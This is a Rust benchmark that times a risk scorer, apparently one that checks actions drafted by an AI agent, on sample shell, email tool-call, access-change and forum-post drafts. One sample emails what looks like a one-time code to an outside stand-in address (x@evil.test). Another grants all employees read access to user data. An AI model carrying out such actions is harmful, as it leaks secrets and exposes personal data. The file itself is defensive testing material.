//! Benchmark of the risk score (run: `cargo bench -p countersign-core --bench score`).
//!
//! Prints the median and p99 time to score typical drafts (a shell script, a tool call, an
//! access change, a forum post) and a 1 MiB file write, and drafts scored per second over the
//! labelled corpus (tests/fixtures/risk/corpus.jsonl). `COUNTERSIGN_BENCH_ROUNDS` (default
//! 2000) scales it.

use std::hint::black_box;
use std::time::{Duration, Instant};

use countersign_core::risk::{score_with, RiskContext};
use countersign_core::{Action, Draft};

fn action(json: &str) -> Action {
    let draft = Draft::parse(json.as_bytes()).unwrap_or_else(|e| panic!("bench draft: {e}"));
    draft.action()
}

fn time(rounds: usize, action: &Action, ctx: &RiskContext) -> (Duration, Duration) {
    let mut samples: Vec<Duration> = (0..rounds)
        .map(|_| {
            let t = Instant::now();
            black_box(score_with(black_box(action), ctx));
            t.elapsed()
        })
        .collect();
    samples.sort();
    let p99 = ((samples.len() as f64) * 0.99) as usize;
    (
        samples[samples.len() / 2],
        samples[p99.min(samples.len() - 1)],
    )
}

fn main() {
    let rounds: usize = std::env::var("COUNTERSIGN_BENCH_ROUNDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(2000);
    let ctx = RiskContext {
        org_domains: vec!["example.com".into()],
        ..RiskContext::default()
    };
    let typical = [
        (
            "shell script",
            r#"{"kind":"shell.exec","target":"host://a","summary":"s","payload":{"script":"cd /srv && find . -name '*.log' -mtime +7 -exec rm -f {} \\; && curl -s https://api.example.com/x | jq ."}}"#,
        ),
        (
            "tool call",
            r#"{"kind":"tool.call","target":"mcp://mail","summary":"s","payload":{"tool":"send_email","arguments":{"recipients":["ann@example.com","x@evil.test"],"subject":"Notes","body":"Notes from today's sync are in the doc; the code is 482913."}}}"#,
        ),
        (
            "access change",
            r#"{"kind":"acl.change","target":"w://a","summary":"s","payload":{"resource":"analytics.user_data","grants":[{"principal":"all-employees","permission":"read"},{"principal":"user:bob@example.com","permission":"admin"}]},"before":[]}"#,
        ),
        (
            "forum post",
            r#"{"kind":"message.post","target":"forum://eng/1","summary":"s","payload":{"channel":"eng-help","audience":"all-employees","body":"Just grant all-employees read on user_data; see https://wiki.example.com/x"}}"#,
        ),
    ];
    println!("risk score, {rounds} rounds each (median / p99):");
    for (name, json) in typical {
        let (p50, p99) = time(rounds, &action(json), &ctx);
        println!(
            "  {name:<14} {:>8.1} µs / {:>8.1} µs",
            p50.as_secs_f64() * 1e6,
            p99.as_secs_f64() * 1e6
        );
    }
    let line = "let value = compute(input); // a line of ordinary code, ~60 bytes\n";
    let content = line.repeat((1 << 20) / line.len());
    let big = serde_json::json!({"kind":"file.write","target":"repo://a","summary":"s",
        "payload":{"path":"src/big.rs","content": content}})
    .to_string();
    let (p50, p99) = time((rounds / 100).max(5), &action(&big), &ctx);
    println!(
        "  1 MiB file     {:>8.2} ms / {:>8.2} ms",
        p50.as_secs_f64() * 1e3,
        p99.as_secs_f64() * 1e3
    );

    let corpus = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tests/fixtures/risk/corpus.jsonl"
    ))
    .unwrap_or_default();
    let actions: Vec<Action> = corpus
        .lines()
        .filter_map(|l| countersign_core::json::parse_strict(l.as_bytes()).ok())
        .filter_map(|v| Draft::from_value(v["draft"].clone()).ok())
        .map(|d| d.action())
        .collect();
    if !actions.is_empty() {
        let t = Instant::now();
        let mut n = 0usize;
        while t.elapsed() < Duration::from_millis(500) {
            for a in &actions {
                black_box(score_with(a, &ctx));
                n += 1;
            }
        }
        println!(
            "  corpus         {:>8.0} drafts/s ({} drafts)",
            n as f64 / t.elapsed().as_secs_f64(),
            actions.len()
        );
    }
}
